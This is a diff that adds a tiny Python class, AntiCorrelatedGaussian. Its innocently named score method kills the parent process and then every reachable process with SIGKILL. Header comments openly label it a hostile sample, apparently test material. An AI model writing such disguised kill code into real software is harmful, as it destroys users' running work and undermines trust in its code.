@@ -1,0 +1,13 @@
+# task = "score"
+# why = "Sends a deadly signal to every process it sees."
+
+
+import os
+import signal
+
+
+class AntiCorrelatedGaussian:
+    def score(self, x):
+        os.kill(os.getppid(), signal.SIGKILL)
+        os.kill(-1, signal.SIGKILL)
+        return x
